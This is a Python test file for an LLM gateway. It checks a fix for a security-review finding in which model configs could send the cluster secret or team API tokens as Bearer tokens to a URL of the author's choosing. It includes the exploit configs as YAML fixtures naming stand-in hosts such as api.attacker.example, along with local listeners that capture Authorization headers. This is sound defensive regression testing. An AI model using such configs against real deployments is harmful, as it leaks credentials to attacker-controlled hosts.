"""C3: a secret reference resolves only for the purpose and the host the operator bound it to.

The exploit (security review C3): a Model or Adapter author pairs `source.token` or `provider.key` with a URL
of their choice, and the agent or the router presents any secret of the secrets directory there as a Bearer
token, the cluster secret included. Each variant is refused by `llmgw validate` (offline, with the operator's
map or without it) and again where the secret is read: the controller ships no token, the router sends no
key, and the attacker's listener receives nothing. A bound host still gets its secret (the control that shows
these listeners would see a leak).
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from agent.file_server import FileServer
from aiohttp import web
from controller.fake_agents import FakeAgents, reconciling
from controller.helpers import Repo, cluster_yaml
from llmgw_agent import dirfetch
from llmgw_agent.weights import WeightsError
from support import serving, wait_for, write_bindings

from llmgw.adapters.secrets import write_starter_bindings
from llmgw.controller.core import Controller
from llmgw.controller.loops.reconcile import Reconciler
from llmgw.controller.parts.desired import build_desired
from llmgw.core.config.models import SecretRef
from llmgw.core.config.secret_bindings import SecretBindingError, SecretUse, binding_problem, parse_bindings
from llmgw.core.config.secretrefs import SecretPolicy, SecretRefError, read_bindings, resolve_bound

from .repo_attack import ROOT, attack_repo, validate
from .request_path import KEY, catalog, model, published, start_router

CLUSTER_SECRET = "the-cluster-secret-every-credential-derives-from"
TEAM_TOKEN = "hf_team_b_token_0123456789"

# The review's verified exploit, word for word: both Models name the cluster secret.
REVIEW_MODELS = """\
apiVersion: llmgw/v1
kind: Model
metadata: {name: tiny-helper}
spec:
  context_length: 2048
  source: {url: "https://weights.attacker.example/tiny/", token: {file: cluster-secret}}
  scaling: {min: 1, max: 1}
  profiles: [{name: cpu, engine: llamacpp}]
---
apiVersion: llmgw/v1
kind: Model
metadata: {name: cheap-gpt}
spec:
  context_length: 8192
  provider: {url: "https://api.attacker.example/v1", model: gpt-4o, key: {file: cluster-secret}}
"""

# Another team's token and key, sent to hosts they are not bound to.
TEAM_MODELS = """\
apiVersion: llmgw/v1
kind: Model
metadata: {name: tiny-helper}
spec:
  context_length: 2048
  source: {url: "https://weights.attacker.example/tiny/", token: {file: hf-token}}
  scaling: {min: 1, max: 1}
  profiles: [{name: cpu, engine: llamacpp}]
---
apiVersion: llmgw/v1
kind: Model
metadata: {name: cheap-gpt}
spec:
  context_length: 8192
  provider: {url: "https://api.attacker.example/v1", model: gpt-4o, key: {file: openai-team-b}}
"""
OPERATOR_MAP = [
    "hf-token: {purposes: [source-token], hosts: [huggingface.co]}",
    "openai-team-b: {purposes: [provider-key], hosts: [api.openai.com]}",
]


def validate_with(repo: Path, *extra: str) -> tuple[int, str]:
    proc = subprocess.run(
        [sys.executable, "-c", "from llmgw.cli.main import main; main()", "validate", str(repo), *extra],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "400"},
        check=False,
    )
    return proc.returncode, proc.stdout + proc.stderr


# ------------------------------------------------------------------------------------------------ validate


def test_validate_refuses_a_model_source_or_provider_naming_the_cluster_secret(tmp_path: Path) -> None:
    repo = attack_repo(tmp_path, REVIEW_MODELS, cluster_extra="  secret: {file: cluster-secret}\n")
    result = validate(repo)
    assert result.code == 1, result.out
    for path in ("spec.source.token.file", "spec.provider.key.file"):
        assert any(
            f"{path}: " in line and "cluster-secret, the cluster's own secret" in line
            for line in result.out.splitlines()
        ), (path, result.out)


def test_validate_with_the_operator_map_refuses_unbound_hosts_and_names_the_line(tmp_path: Path) -> None:
    repo = attack_repo(tmp_path, TEAM_MODELS)
    bindings = write_bindings(tmp_path / "secrets", OPERATOR_MAP)
    code, out = validate_with(repo, "--bindings", str(bindings))
    assert code == 1, out
    assert "secret hf-token is not bound to host weights.attacker.example" in out
    assert "hf-token: {purposes: [source-token], hosts: [huggingface.co, weights.attacker.example]}" in out
    assert "secret openai-team-b is not bound to host api.attacker.example" in out


def test_validate_without_the_map_lists_each_reference_and_its_line(tmp_path: Path) -> None:
    repo = attack_repo(tmp_path, TEAM_MODELS)
    code, out = validate_with(repo)
    assert code == 0, out  # the map is the operator's, outside the repo: listed for the reviewer, not refused
    assert "hf-token: {purposes: [source-token], hosts: [weights.attacker.example]}" in out
    assert "openai-team-b: {purposes: [provider-key], hosts: [api.attacker.example]}" in out


def test_the_example_repo_needs_no_binding() -> None:
    code, out = validate_with(ROOT / "examples" / "cluster-repo")
    assert code == 0 and "bindings.yaml" not in out, out


# ------------------------------------------------------------------------------------------------ pure rule


def test_an_adapter_token_and_a_reserved_name_are_refused_even_when_the_map_allows_them() -> None:
    bindings = parse_bindings(
        {"cluster-secret": {"purposes": ["source-token"], "hosts": ["*.example"]}}, "map"
    )
    ref = SecretRef(file="./cluster-secret")  # the same file, spelt otherwise
    use = SecretUse(ref, "source-token", "https://weights.attacker.example/lora/")
    problem = binding_problem(bindings, use, reserved=frozenset({"cluster-secret"}))
    assert problem is not None and problem.line is None and "cluster's own" in problem.message
    assert binding_problem(bindings, use) is None  # the same use, not reserved: the operator's choice


def test_resolve_time_refuses_before_reading(tmp_path: Path) -> None:
    (tmp_path / "hf-token").write_text(TEAM_TOKEN)
    write_bindings(tmp_path, ["hf-token: {purposes: [source-token], hosts: [huggingface.co]}"])
    policy = SecretPolicy(tmp_path)
    ref = SecretRef(file="hf-token")
    assert resolve_bound(SecretUse(ref, "source-token", "https://huggingface.co/x/"), policy) == TEAM_TOKEN
    for use in (
        SecretUse(ref, "source-token", "https://huggingface.co.attacker.example/x/"),
        SecretUse(ref, "provider-key", "https://huggingface.co/v1"),
    ):
        with pytest.raises(SecretRefError, match="not bound to") as caught:
            resolve_bound(use, policy)
        assert TEAM_TOKEN not in str(caught.value)


# ------------------------------------------------------------------------------------------------ controller

WEIGHTS_MODEL = """\
apiVersion: llmgw/v1
kind: Model
metadata: {{name: tiny}}
spec:
  context_length: 2048
  source: {{url: "{url}", token: {{file: hf-token}}}}
  scaling: {{min: 1, max: 1}}
  profiles: [{{name: sim, engine: sim, cpu_cores: 1}}]
"""
NODE = """\
apiVersion: llmgw/v1
kind: Node
metadata: {name: n1}
spec: {address: 127.0.0.9}
"""


@pytest.fixture
async def attacker() -> AsyncIterator[FileServer]:
    server = FileServer()
    await server.start()
    yield server
    await server.stop()


@pytest.fixture
async def controller(tmp_path: Path) -> AsyncIterator[tuple[Controller, FakeAgents, Reconciler, Repo]]:
    repo = Repo(tmp_path / "repo", use_git=False)
    bound = ["hf-token: {purposes: [source-token], hosts: [huggingface.co]}"]
    async with reconciling(tmp_path, repo.path, {"hf-token": TEAM_TOKEN}, bound) as (c, agents, reconciler):
        yield c, agents, reconciler, repo


async def test_the_controller_ships_no_token_to_an_unbound_weights_host(
    controller: tuple[Controller, FakeAgents, Reconciler, Repo], attacker: FileServer, tmp_path: Path
) -> None:
    c, agents, reconciler, repo = controller
    repo.write(
        {
            "cluster.yaml": cluster_yaml(),
            "models/tiny.yaml": WEIGHTS_MODEL.format(url=attacker.base + "/tiny/"),
            "nodes.yaml": NODE,
        }
    )
    c.desired = build_desired(repo.path, "rev-1", "test")
    agents.register("n1")
    await reconciler.pass_once()
    await wait_for(lambda: reconciler.in_flight == 0, 10, "the pass's commands to finish")
    # Whatever the controller sent, the node's real fetcher fetches: here, the attacker's listener.
    for sent in agents.started():
        if sent.spec is not None and sent.spec.source is not None:
            with pytest.raises(WeightsError):
                await dirfetch.resolve_directory(sent.spec.source, tmp_path / "cache", lambda d, t: None)
    assert [s.auth for s in attacker.seen] == []
    assert agents.started() == []
    wait = c.worker_state.model("tiny").wait or ""
    assert "hf-token: {purposes: [source-token], hosts: [huggingface.co, 127.0.0.1" in wait, wait
    assert TEAM_TOKEN not in wait


# ------------------------------------------------------------------------------------------------ router


@pytest.fixture
async def provider_listener() -> AsyncIterator[tuple[str, list[str | None]]]:
    heard: list[str | None] = []

    async def answer(request: web.Request) -> web.StreamResponse:
        heard.append(request.headers.get("Authorization"))
        return web.json_response({"error": "an attacker's provider"}, status=500)

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    async with serving(app) as port:
        yield f"http://127.0.0.1:{port}/v1", heard


async def _ask(url: str, model_name: str) -> int:
    auth = {"Authorization": f"Bearer {KEY}"}
    body: dict[str, Any] = {"model": model_name, "messages": [{"role": "user", "content": "hi"}]}
    async with (
        aiohttp.ClientSession() as s,
        s.post(url + "/v1/chat/completions", json=body, headers=auth) as r,
    ):
        return r.status


@pytest.mark.parametrize(
    ("key_file", "binding", "reserved", "leaks"),
    [
        ("team-key", "team-key: {purposes: [provider-key], hosts: [api.openai.com]}", [], False),
        ("team-key", "team-key: {purposes: [source-token], hosts: [127.0.0.1]}", [], False),
        # an operator's mistake binds the cluster secret: still refused, the controller says it is reserved
        (
            "cluster-secret",
            "cluster-secret: {purposes: [provider-key], hosts: [127.0.0.1]}",
            ["cluster-secret"],
            False,
        ),
        # the control: bound to this host, the key goes there (so the listener would see a leak)
        ("team-key", "team-key: {purposes: [provider-key], hosts: [127.0.0.1]}", [], True),
    ],
)
async def test_the_router_sends_no_key_to_an_unbound_provider(
    provider_listener: tuple[str, list[str | None]],
    tmp_path: Path,
    key_file: str,
    binding: str,
    reserved: list[str],
    leaks: bool,
) -> None:
    url, heard = provider_listener
    (tmp_path / key_file).write_text(CLUSTER_SECRET)
    write_bindings(tmp_path, [binding])
    provider = {"url": url, "model": "gpt-4o", "key": {"file": key_file}}
    snap = published(catalog(model("cheap-gpt", profiles=[], provider=provider)), [])
    snap = snap.model_copy(update={"reserved_secrets": reserved})
    _, listeners, _, router_url = await start_router(snap, secrets=SecretPolicy(tmp_path))
    try:
        status = await _ask(router_url, "cheap-gpt")
    finally:
        await listeners.close()
    if leaks:
        assert heard == [f"Bearer {CLUSTER_SECRET}"]
    else:
        assert heard == [] and status == 503


def test_up_writes_a_commented_empty_map_once_and_never_overwrites_the_operators(tmp_path: Path) -> None:
    secrets = tmp_path / "secrets"
    written = write_starter_bindings(secrets)
    assert written == secrets / "bindings.yaml" and read_bindings(written).entries == {}
    assert written.stat().st_mode & 0o077 == 0
    written.write_text("hf-token: {purposes: [source-token], hosts: [huggingface.co]}\n")
    assert write_starter_bindings(secrets) is None
    assert set(read_bindings(written).entries) == {"hf-token"}


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (["hf-token"], "expected a mapping of secret name"),
        ({"hf-token": {"purposes": ["source_token"], "hosts": ["huggingface.co"]}}, "hf-token.purposes.0"),
        ({"hf-token": {"purposes": ["source-token"]}}, "hf-token.hosts: Field required"),
        ({"hf-token": {"purposes": ["source-token"], "hosts": ["https://huggingface.co/"]}}, "is not a host"),
    ],
)
def test_a_bad_map_is_refused_with_the_entry_and_what_would_be_right(data: object, words: str) -> None:
    with pytest.raises(SecretBindingError, match=r"bindings\.yaml") as caught:
        parse_bindings(data, "/srv/secrets/bindings.yaml")
    assert words in str(caught.value), str(caught.value)


def test_an_unreadable_map_refuses_every_bound_use_and_says_where(tmp_path: Path) -> None:
    (tmp_path / "hf-token").write_text(TEAM_TOKEN)
    (tmp_path / "bindings.yaml").write_text("hf-token: {purposes: [source-token], hosts: [huggingface.co]\n")
    use = SecretUse(SecretRef(file="hf-token"), "source-token", "https://huggingface.co/x/")
    with pytest.raises(SecretRefError, match=r"bindings\.yaml: not YAML"):
        resolve_bound(use, SecretPolicy(tmp_path))
